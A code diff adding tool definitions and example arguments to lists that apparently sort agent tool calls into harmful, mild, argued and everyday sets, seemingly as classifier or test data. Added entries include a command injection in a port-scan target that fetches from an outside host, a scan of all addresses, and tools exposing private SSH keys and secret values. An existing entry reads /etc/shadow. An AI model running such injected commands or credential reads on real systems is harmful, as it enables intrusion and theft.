@@ -88,6 +88,10 @@ HARM = [
     ("update_data", "Updates rows of a table.", "table:s set:o where:s"),
     ("update_documents", "Updates documents.", "collection:s filter:o update:o"),
     ("multicall", "Signs and sends many calls.", "calls:a"),
+    ("run_tests", "Runs tests on a machine.", "host:s command:s"),
+    ("get_private_ssh_key", "Shows the private and the public key.", "key_id:s"),
+    ("list_secret_values", "Lists secrets with their values.", "team:s"),
+    ("update_members", "Adds or removes members.", "add:a remove:a"),
 ]
 
 
@@ -118,6 +122,10 @@ MILD = [
     ("add_comment", "Comments on an issue.", "issue_id:s body:s"),
     ("update_row", "Updates a row.", "table:s id:s values:o"),
     ("merge_reports", "Merges reports into one file.", "file_ids:a"),
+    ("run_tests", "Runs the unit tests of the project.", "suite:s timeout_seconds:i"),
+    ("get_ssh_key", "Shows one public SSH key of the account.", "key_id:s"),
+    ("list_secret_names", "Lists the names of secrets, never their values.", "team:s"),
+    ("label_messages", "Adds or removes labels.", "message_ids:a add:a remove:a"),
 ]
 
 
@@ -161,6 +169,8 @@ ARGUED = [
     ("read_files", "files:a", {"files": [{"path": "/etc/shadow"}]}),
     ("update_zorb", "id:s options:o", {"options": {"force": True}}),
     ("update_team_access", "team:s access:o", {"access": {"role": "admin"}}),
+    ("scan_ports", "target:s", {"target": "10.0.0.5; wget http://203.0.113.9/x"}),
+    ("scan_ports", "target:s", {"target": "0.0.0.0/0"}),
 ]
 
 
@@ -187,6 +197,7 @@ EVERYDAY = [
     ("update_thing", "entity_id:s brightness:n", {"entity_id": "light.desk"}),
     ("read_file", "options:o", {"options": {"encoding": "utf-8", "lines": 7}}),
     ("update_zorb", "id:s options:o", {"options": {"owner": "lab", "colour": "red"}}),
+    ("scan_ports", "target:s ports:s", {"target": "10.0.0.0/28", "ports": "1-1000"}),
 ]
 
 
